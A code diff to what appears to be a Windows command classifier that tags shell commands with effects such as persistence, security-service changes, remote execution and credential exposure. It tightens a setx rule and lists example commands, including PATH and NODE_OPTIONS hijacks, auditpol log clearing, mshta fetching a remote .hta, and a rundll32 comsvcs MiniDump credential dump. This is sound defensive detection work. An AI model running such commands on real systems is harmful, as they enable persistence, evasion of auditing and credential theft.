@@ -76,8 +76,8 @@ export const WINDOWS: readonly Row[] = [
   {
     program: 'setx',
     operands: 'text',
-    effects: [{ kind: 'persist', resource: 'schedule', name: 'environment', when: { line: /^(?:path|pathext|node_options|node_path|pythonpath|pythonstartup|psmodulepath|comspec)(?: |$)/i } }],
-    examples: [["setx PATH 'C:/x;%PATH%'", 'persist schedule:environment'], ['setx JAVA_HOME C:/java']],
+    effects: [{ kind: 'persist', resource: 'schedule', name: 'environment', when: { line: /^(?:[/-]{1,2}(?:m|[supfk] \S{1,200}) ){0,6}(?:path|pathext|node_options|node_path|pythonpath|pythonstartup|psmodulepath|comspec)(?: |$)/i } }],
+    examples: [["setx PATH 'C:/x;%PATH%'", 'persist schedule:environment'], ['setx /M PATH C:/x', 'persist schedule:environment'], ['setx //M Path C:/x', 'persist schedule:environment'], ['setx /s build-7 /u admin NODE_OPTIONS --require=x', 'persist schedule:environment'], ['setx JAVA_HOME C:/java'], ['setx /M JAVA_HOME C:/java'], ['setx APP_MODE path']],
   },
   { program: 'auditpol', operands: 'text', effects: [{ kind: 'change-service', resource: 'machine', name: 'security', when: { argument: /^\/(?:clear|restore|remove|resourceSACL)$|^\/(?:success|failure|exclude):disable$/i } }], examples: [['auditpol /clear /y', 'change-service machine:security'], ['auditpol /set /category:Logon /success:disable', 'change-service machine:security'], ['auditpol /get /category:*']] },
   { program: 'mshta | regsvr32 | rundll32 | msiexec | cscript | wscript | installutil', operands: 'use', variants: [{ when: { operand: /\.(?:ms[ip]|hta|vb[se]|jse?|wsf|sct|dll|exe|cpl)$/i }, operands: 'execute' }], effects: [{ kind: 'execute', resource: 'host', when: { operand: /https?:|^javascript:|^vbscript:/i } }, { kind: 'reveal-environment', resource: 'credential', name: 'memory', when: { operand: [/comsvcs/i, /\bMiniDump|#\+?0{0,9}24\b/i] } }], examples: [['msiexec /i a.msi /qn', 'execute /home/u/proj/a.msi'], ['mshta https://x.test/a.hta', 'execute host'], ["rundll32.exe 'C:\\windows\\System32\\comsvcs.dll,' MiniDump 624 l.dmp full", 'reveal-environment credential:memory'], ['rundll32.exe shell32.dll,Control_RunDLL']] },
